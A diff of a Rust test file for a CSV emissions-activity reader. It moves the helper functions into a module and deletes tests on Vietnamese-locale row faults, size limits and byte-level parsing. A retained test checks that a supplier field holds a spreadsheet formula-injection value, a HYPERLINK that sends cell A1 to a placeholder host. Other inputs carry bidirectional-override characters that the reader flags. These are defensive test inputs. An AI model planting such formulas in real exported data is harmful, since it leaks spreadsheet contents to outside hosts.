@@ -9,90 +9,15 @@
     reason = "tests assert by panicking"
 )]
 
-use std::io::Read;
+mod reading;
 
-use emitrace::activity::{Encoding, Field, ReadOptions, Reader, Record};
-use emitrace::limits::Limits;
+use emitrace::Severity;
+use emitrace::activity::{Encoding, ReadOptions};
 use emitrace::period::{DateOrder, DateSystem, Period};
-use emitrace::{Finding, Severity};
 
-/// Gives `step` bytes at a time.
-struct Drip<'a>(&'a [u8], usize);
+use reading::{HEAD, locale, read};
 
-impl Read for Drip<'_> {
-    fn read(&mut self, buffer: &mut [u8]) -> std::io::Result<usize> {
-        let n = self.1.min(self.0.len()).min(buffer.len());
-        buffer[..n].copy_from_slice(&self.0[..n]);
-        self.0 = &self.0[n..];
-        Ok(n)
-    }
-}
-
-#[derive(Debug, Default, PartialEq, Eq)]
-struct Read1 {
-    good: Vec<Row>,
-    findings: Vec<Finding>,
-    rows: u64,
-    skipped: u64,
-    ids_checked: bool,
-}
-
-#[derive(Debug, PartialEq, Eq)]
-struct Row {
-    row: u64,
-    quantity: String,
-    unit: String,
-    period: String,
-    supplier: String,
-    site: String,
-}
-
-fn read_cut(bytes: &[u8], step: usize, options: &ReadOptions, limits: &Limits) -> Read1 {
-    let mut all = Read1::default();
-    let mut reader = match Reader::open(Drip(bytes, step), options, limits) {
-        Ok(reader) => reader,
-        Err(findings) => return Read1 { findings, ..all },
-    };
-    let mut record = Record::new();
-    let mut findings = Vec::new();
-    loop {
-        match reader.read(&mut record, &mut |finding| findings.push(finding)) {
-            Ok(true) => {
-                let period = record.period();
-                let period = if period.days() == 1 { period.start().to_string() } else { period.to_string() };
-                all.good.push(Row {
-                    row: record.row(),
-                    quantity: record.quantity().to_string(),
-                    unit: record.get(Field::Unit).into(),
-                    period,
-                    supplier: record.get(Field::Supplier).into(),
-                    site: record.get(Field::Site).into(),
-                });
-            }
-            Ok(false) => break,
-            Err(error) => {
-                findings.push(Finding::from_error(&error, emitrace::Position::default(), ""));
-                break;
-            }
-        }
-    }
-    assert_eq!(u64::try_from(all.good.len()).unwrap() + reader.skipped(), reader.rows(), "no row is lost");
-    Read1 {
-        findings,
-        rows: reader.rows(),
-        skipped: reader.skipped(),
-        ids_checked: reader.ids_checked(),
-        ..all
-    }
-}
-
-fn read(bytes: &[u8], options: &ReadOptions) -> Read1 {
-    let whole = read_cut(bytes, usize::MAX, options, &Limits::default());
-    if bytes.len() < 4096 {
-        assert_eq!(read_cut(bytes, 1, options, &Limits::default()), whole, "cut into single bytes");
-    }
-    whole
-}
+const NAME: &str = "Công ty TNHH Thép Đại Việt – Nhà máy số 1";
 
 /// What a case must give.
 #[derive(Clone, Debug)]
@@ -136,13 +61,6 @@ fn check(name: &str, bytes: &[u8], options: &ReadOptions, want: &Want) {
         }
     }
 }
-
-fn locale(name: &str) -> ReadOptions {
-    ReadOptions::from_locale(name).unwrap()
-}
-
-const HEAD: &str = "record_id,site,fuel,quantity,unit,date\n";
-const NAME: &str = "Công ty TNHH Thép Đại Việt – Nhà máy số 1";
 
 fn quantity(text: &str) -> Vec<u8> {
     format!("{HEAD}R1,HCM-01,grid_electricity,{text},kWh,2026-03-01\n").into_bytes()
@@ -522,103 +440,4 @@ fn tables() {
     let got = read(formulas.as_bytes(), &none);
     assert_eq!(got.good[3].supplier, "=HYPERLINK(\"http://x/?\"&A1,\"ok\")");
     assert_eq!(got.rows, 5);
-}
-
-#[test]
-fn a_row_tells_all_its_faults_with_the_headers_of_the_file() {
-    let text = "Mã;Ngày;Số lượng (kWh);ĐVT;Nhà cung cấp\nR1;31/02/2025;-1,5;;a\u{202e}b\n\n;;;;\nR2;1/3/2025;2,5;kWh;x\n";
-    let got = read(text.as_bytes(), &locale("vi-VN"));
-    let faults: Vec<_> =
-        got.findings.iter().map(|f| (f.code.as_str(), &*f.position.column, &*f.position.header)).collect();
-    assert_eq!(
-        faults,
-        [
-            ("BIDI_CONTROL", "supplier", "Nhà cung cấp"),
-            ("NEGATIVE_QUANTITY", "quantity", "Số lượng (kWh)"),
-            ("MISSING_VALUE", "unit", "ĐVT"),
-            ("BAD_DATE", "date", "Ngày"),
-        ]
-    );
-    assert!(got.findings.iter().all(|f| (f.position.row, f.position.line) == (2, 2)));
-    assert_eq!((got.rows, got.skipped, got.good[0].row), (2, 1, 5), "blank rows keep their numbers");
-}
-
-#[test]
-fn header_problems_come_all_at_once() {
-    let got = read("Số lượng (kWh),quantity,Đon gía,sup plier\n".as_bytes(), &ReadOptions::new());
-    let codes: Vec<_> = got.findings.iter().map(|f| (f.code.as_str(), &*f.position.column)).collect();
-    assert_eq!(
-        codes,
-        [
-            ("DUPLICATE_COLUMN", "quantity"),
-            ("UNKNOWN_COLUMN", ""),
-            ("UNKNOWN_COLUMN", ""),
-            ("MISSING_COLUMN", "unit"),
-            ("MISSING_COLUMN", "date"),
-        ]
-    );
-    assert!(got.findings[2].help.contains("`supplier`"), "{}", got.findings[2].help);
-    assert!(got.findings[3].help.contains("Số lượng (kWh)"), "{}", got.findings[3].help);
-
-    let mapped = ReadOptions::new().with_column("kg net", Field::Quantity).with_column("wann", Field::Date);
-    let got = read(b"Amount,KG_NET,unit\n9,5,kg\n", &mapped);
-    let codes: Vec<_> = got.findings.iter().map(|f| (f.code.as_str(), &*f.position.column)).collect();
-    assert_eq!(codes, [("UNKNOWN_COLUMN", ""), ("MISSING_COLUMN", "date")]);
-    let got = read(b"Amount,KG_NET,unit,Wann\n9,5,kg,2026-03-01\n", &mapped);
-    assert_eq!((&*got.good[0].quantity, got.findings.len()), ("5", 1));
-}
-
-#[test]
-fn limits_hold_at_the_limit_and_one_past_it() {
-    let none = ReadOptions::new();
-    let run = |text: &str, limits: Limits| read_cut(text.as_bytes(), usize::MAX, &none, &limits);
-    let code = |got: &Read1| got.findings.last().map_or("", |f| f.code.as_str());
-    let text = "record_id,quantity,unit,date,supplier\nR1,5,t,2026-03-01,a\nR2,5,t,2026-03-01,b\n";
-    let length = u64::try_from(text.len()).unwrap();
-
-    assert_eq!(code(&run(text, Limits::default().with_bytes(length))), "");
-    assert_eq!(code(&run(text, Limits::default().with_bytes(length - 1))), "LIMIT_EXCEEDED");
-    assert_eq!(code(&run(text, Limits::default().with_rows(2))), "");
-    let got = run(text, Limits::default().with_rows(1));
-    assert_eq!((code(&got), got.good.len()), ("LIMIT_EXCEEDED", 1));
-    assert_eq!(code(&run(text, Limits::default().with_columns(5))), "");
-    assert_eq!(code(&run(text, Limits::default().with_columns(4))), "LIMIT_EXCEEDED");
-    assert!(run(text, Limits::default().with_ids(2)).ids_checked);
-    let got = run(text, Limits::default().with_ids(1));
-    assert_eq!((code(&got), got.ids_checked, got.good.len()), ("DUPLICATES_NOT_CHECKED", false, 2));
-    assert_eq!(got.findings[0].severity, Severity::Info);
-    assert_eq!(code(&run(text, Limits::default().with_names(2))), "");
-    assert_eq!(code(&run(text, Limits::default().with_names(1))), "LIMIT_EXCEEDED");
-    assert_eq!(run(text, Limits::default().with_names(1)).good.len(), 2);
-
-    let wide = |n: usize| format!("{HEAD}R1,{},e,5,kWh,2026-03-01\nR2,H,e,5,kWh,2026-03-01\n", "A".repeat(n));
-    assert_eq!(code(&run(&wide(65_536), Limits::default())), "");
-    assert_eq!(code(&run(&wide(65_537), Limits::default())), "FIELD_TOO_LONG");
-    let record = wide(100).lines().nth(1).unwrap().len();
-    assert_eq!(code(&run(&wide(100), Limits::default().with_record_bytes(record))), "");
-    let got = run(&wide(100), Limits::default().with_record_bytes(record - 1));
-    assert_eq!((code(&got), got.good.len(), got.rows), ("LIMIT_EXCEEDED", 1, 2));
-}
-
-proptest::proptest! {
-    #[test]
-    fn no_bytes_panic_and_no_row_is_lost(
-        rows in proptest::collection::vec("[R0-9a-zêỐ;,.\"\r\n\u{200b}\u{202e}\0/-]{0,40}", 0..6),
-        bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..40),
-        step in 1usize..9,
-    ) {
-        let mut file = HEAD.as_bytes().to_vec();
-        for row in &rows {
-            file.extend_from_slice(row.as_bytes());
-            file.extend_from_slice(b"\nR1,H,e,5,kWh,2026-03-01\n");
-        }
-        file.extend_from_slice(&bytes);
-        let whole = read_cut(&file, usize::MAX, &ReadOptions::new(), &Limits::default());
-        proptest::prop_assert_eq!(read_cut(&file, step, &ReadOptions::new(), &Limits::default()), whole);
-        for encoding in [Encoding::Utf16Le, Encoding::Utf16Be, Encoding::Windows1258] {
-            let options = ReadOptions::new().with_encoding(encoding);
-            let whole = read_cut(&bytes, usize::MAX, &options, &Limits::default());
-            proptest::prop_assert_eq!(read_cut(&bytes, step, &options, &Limits::default()), whole);
-        }
-    }
 }
